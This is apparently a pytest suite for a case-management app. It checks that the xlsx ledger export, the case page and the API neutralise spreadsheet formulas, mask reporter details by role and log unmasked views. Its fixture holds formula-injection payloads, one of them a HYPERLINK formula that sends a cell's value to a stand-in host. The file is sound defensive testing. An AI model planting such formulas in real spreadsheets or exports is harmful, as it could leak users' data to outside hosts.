"""The reporter of a case in the ledger export, the case page and the API, for every role:
formulas stay text, masked where the role may not see it, every unmasked view logged."""

from __future__ import annotations

import io

import pytest
from python_calamine import CalamineWorkbook

from tuopin.cases import actions
from tuopin.cases.models import Kind, Source
from tuopin.cases.tests.helpers import at
from tuopin.lib import clock
from tuopin.registry.models import PersonalDataView

NOW = "2018-07-20 10:00"
TITLE = '=HYPERLINK("http://x/?d="&E5,"查看")'
REPORTER = "=1+2"
PHONE = "13912345678"


@pytest.fixture
def hostile(world):
    with clock.frozen(at("2018-07-02 09:00")):
        case = actions.register_case(
            world.cadre,
            kind=Kind.PETITION,
            source=Source.VISIT,
            title=TITLE,
            content="@SUM(1,2)",
            org_unit=world.cg_village,
            reporter_name=REPORTER,
            reporter_phone=PHONE,
        )
    with clock.frozen(at(NOW)):
        yield case


def _ledger(response) -> list[list]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(response.content))
    return book.get_sheet_by_name("台账").to_python()


@pytest.mark.parametrize(
    ("who", "reporter"),
    [
        ("hq", f"{REPORTER} {PHONE}"),
        ("cadre", f"{REPORTER} {PHONE}"),
        ("viewer", "=** 139****5678"),
        ("leader", "=** 139****5678"),
        ("inspector", "=** 139****5678"),
    ],
)
def test_the_ledger_keeps_formulas_as_text_and_masks_per_role(
    world, hostile, login, xlsx_formulas, who, reporter
):
    response = login(getattr(world, who)).get("/cases/export.xlsx")
    assert response.status_code == 200
    assert xlsx_formulas(response.content) == []
    row = next(row for row in _ledger(response) if row[1] == hostile.number)
    assert row[4] == reporter
    assert row[6] == f"{TITLE}\n@SUM(1,2)"
    logged = PersonalDataView.objects.filter(via="export")
    if who in ("hq", "cadre"):
        view = logged.get()
        assert (view.user, view.scope_code) == (getattr(world, who), world.cg_village.code)
    else:
        assert not logged.exists()


def test_the_ledger_of_another_town_does_not_hold_the_case(world, hostile, login):
    rows = _ledger(login(world.other_cadre).get("/cases/export.xlsx"))
    assert all(row[1] != hostile.number for row in rows[3:])
    assert login(None).get("/cases/export.xlsx").status_code == 302
    assert PersonalDataView.objects.count() == 0


@pytest.mark.parametrize(
    ("who", "unmasked"),
    [("hq", True), ("cadre", True), ("viewer", False), ("leader", False), ("inspector", False)],
)
def test_the_case_page_and_api_show_the_reporter_per_role(world, hostile, login, who, unmasked):
    client = login(getattr(world, who))
    page = client.get(f"/cases/{hostile.pk}/").content.decode()
    data = client.get(f"/api/cases/{hostile.pk}").json()
    if unmasked:
        assert PHONE in page
        assert (data["reporter_name"], data["reporter_phone"]) == (REPORTER, PHONE)
        assert data["tracking_code"] == hostile.tracking_code
        assert sorted(PersonalDataView.objects.values_list("via", flat=True)) == ["api", "web"]
    else:
        assert PHONE not in page and "139****5678" in page
        assert (data["reporter_name"], data["reporter_phone"]) == ("=**", "139****5678")
        assert data["tracking_code"] is None
        assert PersonalDataView.objects.count() == 0


def test_other_towns_and_anonymous_visitors_get_nothing(world, hostile, login):
    assert login(world.other_cadre).get(f"/cases/{hostile.pk}/").status_code == 404
    assert login(world.other_cadre).get(f"/api/cases/{hostile.pk}").status_code == 404
    assert login(None).get(f"/api/cases/{hostile.pk}").status_code == 401
    assert PersonalDataView.objects.count() == 0
